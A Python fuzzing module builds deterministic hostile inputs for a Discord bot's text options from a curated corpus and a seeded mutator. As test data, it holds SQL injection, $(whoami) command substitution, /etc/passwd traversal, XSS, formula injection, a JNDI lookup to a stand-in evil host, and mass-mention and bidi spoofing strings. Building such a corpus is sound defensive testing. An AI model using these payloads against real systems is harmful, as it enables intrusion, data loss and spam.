"""Hostile values, deterministically: a hand-written corpus plus a seeded mutator.

`values_for(valid, size, seed)` returns `size` strings (at least the whole CORE
corpus) for one text option: CORE first (every category, and every value that
ever exposed a defect, so even the CI size reproduces them), then the rest of
the corpus, then mutations around the option's own valid value (a hostile
character in the middle of a date, a valid code in fullwidth, …) drawn from
`random.Random(seed)`. The same (valid, size, seed) always gives the same list.

What is deliberately left out: lone surrogates (`"\\ud800"`). Discord hands
interactions over as UTF-8 JSON, which cannot carry them, so no real
interaction contains one.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Iterator

LONG = 10_000

# -- the corpus, by category ---------------------------------------------------------

EMPTY = ["", " ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2028\u2029", "\ufeff"]
SIZE = [
    "x" * LONG,
    "a" * 101,
    "b" * 257,
    "c" * 1025,
    "d" * 2001,
    "é" * 5000,
    "😀" * 3000,
    "e" + "\u0301" * 5000,  # one letter, five thousand accents
    "`" * 5000,
    "@everyone " * 1000,
    "<@&1>" * 2000,
    "{}" * 5000,
    "\n" * 3000,
    "word " * 2000,
]
CONTROL = [
    "\x00",
    "a\x00b",
    "".join(chr(c) for c in range(1, 32)),
    "\x1b[31mred\x1b[0m",
    "\x07bell\x08\x08",
    "\x7f\x85\x9b",
    "line\rover",
    "tab\there",
    "\x0bvertical\x0cfeed",
]
INVISIBLE = [
    "\u200b",
    "\u200b\u200c\u200d\u2060",
    "pa\u200bper",
    "soft\u00adhyphen",
    "\u180e\u2061\u2062\u2063\u2064",
    "\ufeffBOM",
    "\U000e0041\U000e0042",  # tag characters
    "\u034f\u115f\u3164",  # grapheme joiner, Hangul fillers
]
BIDI = [
    "\u202eevil\u202c",
    "report\u202efdp.exe",
    "\u202dforced\u202c",
    "\u2066isolate\u2069",
    "\u2067rtl\u2069 \u2068first\u2069",
    "\u200fmark\u200e",
    "\u061calm",
    "\u202a\u202b\u202c",
    "@every\u202eone",
]
SQL = [
    "'",
    '"',
    "' OR '1'='1",
    "'; DROP TABLE papers; --",
    '"; DELETE FROM seminars; --',
    "1; SELECT * FROM sqlite_master",
    "' UNION SELECT sql FROM sqlite_master --",
    "%",
    "_",
    "%%",
    "%_%",
    "\\",
    "\\'",
    "NULL",
    "null",
    "*",
    "[a-z]*",
    "x' ESCAPE '\\",
    "?",
    ":name",
    "@param",
    "$1",
]
MENTIONS = [
    "@everyone",
    "@here",
    "@everyone @here",
    "<@&1>",
    "<@&6000>",
    "<@123>",
    "<@!123>",
    "<@9>",
    "<#5000>",
    "</prefs set:1>",
    "<@&" + "9" * 30 + ">",
    "@\u200beveryone",
    "＠everyone",
    "@@everyone",
    "<<@&1>>",
    "hello @everyone <@&1> <@123>",
    "`@everyone` @everyone",
    "@EVERYONE",
    "@everyone\n@here",
]
MARKDOWN = [
    "[click me](https://evil.example/login)",
    "[@everyone](<https://evil.example>)",
    "[](javascript:alert(1))",
    "![img](https://evil.example/x.png)",
    "<https://evil.example>",
    "**bold",
    "__under",
    "~~strike",
    "||spoiler",
    "*",
    "> quote",
    ">>> block quote",
    "# Heading",
    "-# subtext",
    "- list",
    "`",
    "``",
    "```",
    "a`b",
    "``` ` ``",
    "```py\nprint(1)",
    "`@everyone",
    "\\`",
    "\\*\\*",
    "||@everyone||",
]
STAMPS = [
    "<t:0>",
    "<t:0:F>",
    "<t:-62135596800:F>",
    "<t:253402300799:R>",
    "<t:99999999999999999999:F>",
    "<t:1790848800:R>",
    "<t:abc>",
    "<t:",
]
FORMAT = [
    "{",
    "}",
    "{}",
    "{0}",
    "{due}",
    "{due!r}",
    "{0.__class__}",
    "{due.__class__.__init__.__globals__}",
    "{x:>99999999}",
    "{{due}}",
    "{{{due}}}",
    "%s",
    "%(due)s",
    "%n%n%n",
    "$(whoami)",
    "${jndi:ldap://evil.example/a}",
    "{{",
]
DATES = [
    "0001-01-01 00:00",
    "0001-01-02 00:00",
    "0001-01-01",
    "0000-01-01 00:00",
    "9999-12-31 23:59",
    "9999-12-31T23:59-14:00",
    "9999-12-31T23:59+14:00",
    "0001-01-01T00:00+14:00",
    "0001-01-01T00:00-14:00",
    "10000-01-01 00:00",
    "-0001-01-01 00:00",
    "1969-12-31 23:59",
    "1970-01-01 00:00",
    "1900-01-01 00:00",
    "1999-12-31 23:59",
    "2000-01-01 00:00",
    "2038-01-19 03:14",
    "2100-12-31 23:59",
    "2101-01-01 00:00",
    "2106-02-07 06:28",
    "2026-02-30 10:00",
    "2026-13-01 10:00",
    "2026-10-05 24:00",
    "2026-10-05 23:60",
    "2026-03-29 02:30",  # a DST gap in Berlin
    "2026-10-25 02:30",  # the autumn overlap
    "2026-10-05T10:00:00Z",
    "2026-10-05T10:00+25:00",
    "2026-10-05T10:00:00.999999999+14:00",
    "2026-10-05 10:00 Europe/Berlin",
    "2026-W40",
    "2026/10/05",
    "05.10.2026 10:00",
    "now",
    "tomorrow",
    "２０２６－１０－０５ １０：００",
    "٢٠٢٦-١٠-٠٥ ١٠:٠٠",
    "2026-10-05",
    "2026-10-20",
    "9999-12-31",
    "0001-01-01",
]
CLOCK = ["14:00", "00:00", "23:59", "24:00", "25:00", "-1:00", "14:60", "1e9:00", "14.00", "2pm"]
NUMBERS = [
    "0",
    "-0",
    "-1",
    "1e309",
    "-1e309",
    "NaN",
    "inf",
    "9" * 400,
    "-9223372036854775809",
    "9223372036854775808",
    "18446744073709551616",
    "0x10",
    "1_000",
    "٣",
    "½",
    "Ⅻ",
    "1.0",
    "1,3",
    "5.0",
    "0.7",
    "4.00001",
    "1.3 ",
    "１.３",
]
OFFSETS = [
    "none",
    "NONE",
    "7d,1d,2h",
    "0d",
    "-1d",
    "99999999999d",
    "999999d",
    "366d",
    "1d,1d,1d",
    "," * 100,
    ",".join(["1d"] * 500),
    "1y",
    "1h30m",
    "0s",
    "1 d",
    "１d",
]
ZONES = [
    "Europe/Berlin",
    "UTC",
    "Etc/GMT+12",
    "Etc/GMT-14",
    "Pacific/Kiritimati",
    "Pacific/Chatham",
    "America/St_Johns",
    "Asia/Kathmandu",
    "../../../etc/passwd",
    "/usr/share/zoneinfo/UTC",
    "Europe/../Europe/Berlin",
    "europe/berlin",
    "Europe/Berlin\x00",
    "EST5EDT",
    "Factory",
    "localtime",
    "posixrules",
]
NORMALISATION = [
    "ＰＡＰＥＲ",
    "ﬁ",
    "e\u0301",
    "é",
    "\u212a",  # Kelvin sign
    "ß",
    "ẞ",
    "İı",
    "𝐏𝟏",
    "Р1",  # Cyrillic Er
    "P1",
    "p1",
    " P1 ",
    "P1\n",
    "P1\u200b",
    "ｐ１",
    "\u0130stanbul",
    "\U0010ffff",
    "\ufffd",
    "\uffff",
    "👩\u200d👩\u200d👧\u200d👦",
    "🇩🇪",
]
WEIRD = [
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "/dev/null",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "http://",
    "https://" + "a" * 3000 + ".example",
    "https://example.org/%00%0a",
    "<script>alert(1)</script>",
    '{"a": 1}',
    "]]>",
    "<!--",
    "&amp;&lt;",
    "\\u0000",
    '=HYPERLINK("https://evil.example")',
    "+1",
    "@SUM(1)",
    "\t=1",
    "arXiv:1905.03684",
    "10.48550/arXiv.1905.03684",
    "DBLP:conf/nips/WeiM19",
]

# Always run, whatever the size: one or two of every category, and every value that
# exposed a defect in issue 11 (dates beyond the calendar's ends, control characters
# and bidi overrides echoed back).
CORE: list[str] = [
    "",
    " ",
    "x" * LONG,
    "e" + "\u0301" * 5000,
    "`" * 5000,
    "a\x00b",
    "".join(chr(c) for c in range(1, 32)),
    "pa\u200bper",
    "\u202eevil\u202c",
    "report\u202efdp.exe",
    "'; DROP TABLE papers; --",
    "%",
    "@everyone",
    "@here",
    "<@&1>",
    "<@123>",
    "hello @everyone <@&1> <@123>",
    "@everyone\n@here",
    "[@everyone](<https://evil.example>)",
    "```",
    "a`b",
    "<t:99999999999999999999:F>",
    "{due}",
    "{0.__class__}",
    "0001-01-01 00:00",
    "0001-01-02 00:00",
    "9999-12-31 23:59",
    "9999-12-31T23:59-14:00",
    "9999-12-31T23:59+14:00",
    "9" * 400,
    "-1",
    "ＰＡＰＥＲ",
    "Р1",
]
ALL: list[str] = list(
    dict.fromkeys(
        [
            *CORE,
            *EMPTY,
            *SIZE,
            *CONTROL,
            *INVISIBLE,
            *BIDI,
            *SQL,
            *MENTIONS,
            *MARKDOWN,
            *STAMPS,
            *FORMAT,
            *DATES,
            *CLOCK,
            *NUMBERS,
            *OFFSETS,
            *ZONES,
            *NORMALISATION,
            *WEIRD,
        ]
    )
)

# -- the mutator ---------------------------------------------------------------------

_HOSTILE_CHARS = (
    "\x00\x01\x1b\x7f\x85\u200b\u200d\u2060\ufeff\u202e\u202d\u2066\u2069\u0301"
    "`*_~|>#@<>&{}%'\"\\\n\r\t\u00a0\u3000\U0001f600"
)
_FULLWIDTH = {c: chr(ord(c) + 0xFEE0) for c in map(chr, range(0x21, 0x7F))}


def _fullwidth(text: str) -> str:
    return "".join(_FULLWIDTH.get(c, c) for c in text)


def _random_date(rng: random.Random) -> str:
    year = rng.choice([1, 2, 999, 1969, 1970, 1999, 2000, 2037, 2038, 2099, 2100, 2101, 9999])
    year = year if rng.random() < 0.7 else rng.randint(0, 10_000)
    month = rng.choice([0, 1, 2, 12, 13, rng.randint(1, 12)])
    day = rng.choice([0, 1, 28, 29, 30, 31, 32, rng.randint(1, 28)])
    hour, minute = rng.choice([0, 23, 24, rng.randint(0, 23)]), rng.choice([0, 59, 60])
    text = f"{year:04d}-{month:02d}-{day:02d} {hour:02d}:{minute:02d}"
    if rng.random() < 0.4:
        sign = rng.choice("+-")
        text = (
            text.replace(" ", "T")
            + f"{sign}{rng.choice([0, 12, 14, 23, 24]):02d}:{rng.choice([0, 30, 59])}"
        )
    return text


def _mutations(valid: str, rng: random.Random) -> Iterator[str]:
    """Endless variations around `valid` and the corpus."""
    while True:
        pick = rng.randrange(10)
        seed = rng.choice(ALL)
        base = valid or rng.choice(ALL)
        if pick == 0:  # a hostile character somewhere inside the valid value
            at = rng.randint(0, len(base))
            yield base[:at] + rng.choice(_HOSTILE_CHARS) + base[at:]
        elif pick == 1:  # the valid value wrapped in corpus values
            yield f"{seed}{base}{rng.choice(ALL)}"[:LONG]
        elif pick == 2:  # two or three corpus values glued together
            yield "".join(rng.choice(ALL) for _ in range(rng.randint(2, 3)))[:LONG]
        elif pick == 3:  # a corpus value repeated
            yield (seed * rng.randint(2, 400))[: rng.choice([100, 1024, 2000, 4096, LONG])]
        elif pick == 4:  # unicode normalisation and look-alikes of the valid value
            form = rng.choice(["NFC", "NFD", "NFKC", "NFKD"])
            yield rng.choice(
                [
                    unicodedata.normalize(form, seed),
                    _fullwidth(base),
                    base.upper(),
                    base.swapcase(),
                    base.replace("a", "а").replace("e", "е").replace("o", "о"),
                ]
            )
        elif pick == 5:  # dates anywhere on (and off) the calendar
            yield _random_date(rng)
        elif pick == 6:  # numbers as text
            yield rng.choice(
                [
                    str(rng.randint(-(2**70), 2**70)),
                    str(rng.choice([-1, 0, 1]) * 10 ** rng.randint(0, 400)),
                    f"{rng.uniform(-1e6, 1e6):.{rng.randint(0, 20)}f}",
                    rng.choice(NUMBERS),
                ]
            )
        elif pick == 7:  # random code points from the troublesome planes
            yield "".join(
                chr(
                    rng.choice(
                        [
                            rng.randint(0, 0x7F),
                            rng.randint(0x80, 0x2FFF),
                            rng.randint(0xE000, 0xFFFF),
                            rng.randint(0x10000, 0x10FFFF),
                        ]
                    )
                )
                for _ in range(rng.randint(1, 64))
            )
        elif pick == 8:  # the valid value cut or doubled
            yield rng.choice([base[: rng.randint(0, len(base))], base * 2, base + " " + base])
        else:  # mentions and markdown inside the valid value
            yield f"{base} {rng.choice(MENTIONS)} {rng.choice(MARKDOWN)}"


def values_for(valid: str, size: int, seed: int) -> list[str]:
    """`size` hostile values (never fewer than CORE) for an option whose valid value is `valid`."""
    found = list(CORE)
    for value in ALL:
        if len(found) >= size:
            break
        if value not in found:
            found.append(value)
    mutations = _mutations(valid, random.Random(f"{seed}:{valid}"))
    seen = set(found)
    while len(found) < size:
        value = next(mutations)
        if value not in seen:
            seen.add(value)
            found.append(value)
    return found
